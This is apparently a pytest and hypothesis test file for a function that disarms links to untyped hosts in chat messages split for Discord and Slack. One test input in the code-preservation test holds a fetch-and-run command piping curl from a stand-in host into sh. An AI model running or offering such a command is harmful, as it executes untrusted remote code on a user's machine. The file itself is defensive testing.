"""Nobody can press a link whose host nobody typed; what was typed stays a link."""

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from adapters.links import named
from adapters.markup import neutralise, split
from tests.adapters.readers import live_hosts
from tests.adapters.test_markup import LIVE, opened

LIMITS = [1_990, 3_900]  # Discord's and Slack's, less some room
TYPED = {"typed.example", "localhost"}
SAID = "is https://typed.example or localhost better?"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see https://evil.example/a?b.", "see `https://evil.example/a?b`."),
        ("[the docs](https://evil.example/x)", "the docs (`https://evil.example/x`)"),
        ("[https://evil.example](https://evil.example)", "(`https://evil.example`)"),
        ("![](https://evil.example/x.png)", "(`https://evil.example/x.png`)"),
        ("[typed.example](https://evil.example)", "typed.example (`https://evil.example`)"),
        ("[evil.example](https://typed.example/)", "evil.example (https://typed.example/)"),
        ("mail [me](mailto:a@evil.example)", "mail me (`mailto:a@evil.example`)"),
        ("join discord.gg/abc", "join `discord.gg/abc`"),
        ("<https://evil.example>", "<`https://evil.example`>"),
        ("https://typed.example@evil.example/", "`https://typed.example@evil.example/`"),
        ("https://typed.example.evil.example", "`https://typed.example.evil.example`"),
        ("https://typed.example\\.a/", "https\u200b://typed\u200b.example\\.a/"),
        ("1 ` 2 https://evil.example", "1 ` 2 https\u200b://evil\u200b.example"),
        ("*1 https://evil.example", "*1 https\u200b://evil\u200b.example"),
        ("`a`https://evil.example", "`a`https\u200b://evil\u200b.example"),
        ("www.https", "`www.https`"),
        ("https:/[/evil.example](x://y)", "`https:/` /evil.example (`x://y`)"),
        ("www[.evil.example](x://y)", "www .evil.example (`x://y`)"),
        ("https://typed.example[ .e.x](x://y)", "`https://typed.example` .e.x (`x://y`)"),
        ("[a][(//evil.example)](x://y)", "[a] (\u200b//evil\u200b.example) (`x://y`)"),
        ("[a](\n//evil.example)", "[a](\n`//evil.example`)"),
        ("[[a]](https://evil.example)@b`c`", "[[a]](https\u200b://evil\u200b.example)@b`c`"),
        ("[[a]](https:evil)", "[[a]](`https:evil`)"),
        ("` [[a]](https:evil)", "` [[a]](http\u200bs:evil)"),
        ("` ](https:||", "` ](http\u200bs:||"),
        ("` ](www.**", "` ](www\u200b.**"),
        ("**[the docs](https://evil.example)**", "**the docs (`https://evil.example`)**"),
        ("[a](b https://evil.example)", "[a](b `https://evil.example`)"),
        ("[a](README.md 'www.evil.example')", "[a](README.md '`www.evil.example`')"),
        ("[a]( https://evil.example<b)", "[a]( `https://evil.example`<b)"),
    ],
)
def test_a_link_whose_host_nobody_typed_is_shown_and_inert(text: str, shown: str) -> None:
    assert neutralise(text, SAID) == shown


@pytest.mark.parametrize(
    "text",
    [
        "see https://typed.example/a?b=1#c, or http://localhost:8080.",
        "[the docs](https://www.typed.example/x) and **https://TYPED.example**",
        "`curl https://evil.example` and\n```sh\ncurl https://evil.example | sh\n```\n",
        "1. **Do `x`:**\n   ```\n   curl https://evil.example\n   ```",
        "[README](README.md), node.js, a@b.example, handlers[0](event), 1:2 and //",
    ],
)
def test_what_was_typed_and_what_is_code_or_no_link_stays(text: str) -> None:
    assert neutralise(text, SAID) == text


@pytest.mark.parametrize("host", ["a.example", "b.example", "c.example", "localhost"])
def test_a_host_is_named_in_a_link_or_alone(host: str) -> None:
    said = "try https://A.example:80/x, www.b.example or c.example; not http://localhost/?"
    assert named(said, host)


@pytest.mark.parametrize("host", ["", "example", "le", "b.exampl", "www", "x.a.example"])
def test_a_part_of_a_host_is_not_named(host: str) -> None:
    assert not named("https://a.example/x, www.b.example, my-le, b.example.org", host)


LINKS = ["https://evil.example/a ", "http://e.x", "https://typed.example/b", "www.evil.example "]
LINKS += [
    "[a](https://evil.example)",
    "[b](https://typed.example)",
    "[typed.example](http://e.x/ 'c')",
]
LINKS += ["[https://evil.example](https://evil.example)", "evil.example/a "]
LINKS += ["[//e.x](x://y)", "[ .e.x](x://y)", "[(//e.x)](x://y)", "//e.x ", "https:", "www"]
LINKS += ["<https://evil.example>", "https://typed.example@evil.example", "[x](<http://e.x>)"]
MARKS = ["`", "``", "```", "```\n", "\n```\n", "```sh\n", "~~~\n", "*", "**", "_", "__", "~~", "||"]
MARKS += [
    "[",
    "]",
    "](",
    "(",
    ")",
    "\\",
    "<",
    ">",
    "\n",
    "\n\n",
    "    ",
    " ",
    "- ",
    "> ",
    "| ",
    "# ",
]
WORDS = [
    "a",
    "word ",
    "a_b ",
    "x.",
    "://",
    "https",
    "www.",
    "@everyone",
    "лес ",
    "`code` ",
    "**b** ",
]
LONG = ["word " * 180, "x" * 900, "line()\n" * 140, "```sh\n" + "ls\n" * 300 + "```\n"]
PIECES = st.sampled_from(LINKS + MARKS + WORDS) | st.sampled_from(LINKS)
MARKUP = st.lists(PIECES, max_size=30).map("".join)
LONG_MARKUP = st.lists(PIECES | st.sampled_from(LONG), max_size=40).map("".join)


@settings(deadline=None)
@given(MARKUP)
@example("http://e.x_[a](https://evil.example)")
@example("*http://e.x*[a](https://evil.example)")
@example("\n```\n[][https://evil.example](https://evil.example)")
def test_quieting_links_twice_changes_nothing_more_to_the_eye(text: str) -> None:
    once = neutralise(text, SAID)
    assert neutralise(once, SAID).replace("\u200b", "") == once.replace("\u200b", "")


@settings(deadline=None)
@given(MARKUP | LONG_MARKUP, st.sampled_from(LIMITS))
@example("`www.[x](<http://e.x>)", 1_990)
@example("www.https", 1_990)
@example("http://e.x```sh\n](www.**", 1_990)
@example("http://e.x__\n```\n__http://e.x", 1_990)
@example("](https:_www.evil.example ", 1_990)
@example("](https:``", 1_990)
@example("_\n```\n_\n```\nhttps://evil.example/a ", 1_990)
@example("__http://e.x__http://e.x__", 1_990)
@example("\\\\[b](https://typed.example)@everyone[typed.example](http://e.x/ 'c')", 1_990)
def test_no_reader_of_any_part_finds_a_link_whose_host_nobody_typed(text: str, limit: int) -> None:
    for part in split(neutralise(text, SAID), limit):
        assert live_hosts(part) <= TYPED


@pytest.mark.long
@settings(max_examples=10_000, deadline=None)
@given(MARKUP | LONG_MARKUP, st.sampled_from(LIMITS))
def test_no_reader_finds_one_in_ten_thousand_documents(text: str, limit: int) -> None:
    quiet = neutralise(text, SAID)
    parts = split(quiet, limit)
    assert neutralise(quiet, SAID).replace("\u200b", "") == quiet.replace("\u200b", "")
    assert all(len(part) <= limit and part.strip() and not opened(part) for part in parts)
    assert all(live_hosts(part) <= TYPED and not LIVE.search(part) for part in parts)
